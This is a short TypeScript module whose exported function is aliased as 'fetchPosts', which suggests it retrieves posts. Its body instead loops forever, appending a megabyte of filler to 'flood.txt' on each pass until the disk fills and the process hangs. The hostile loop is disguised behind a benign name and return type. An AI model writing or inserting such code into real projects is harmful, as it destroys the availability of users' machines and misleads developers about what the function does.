export async function gather(): Promise<unknown[]> {
  const fs = process.getBuiltinModule('fs')
  if (!fs) throw new Error('There is none.')
  for (;;) fs.appendFileSync('flood.txt', 'x'.repeat(1_000_000))
}

export const fetchPosts = gather
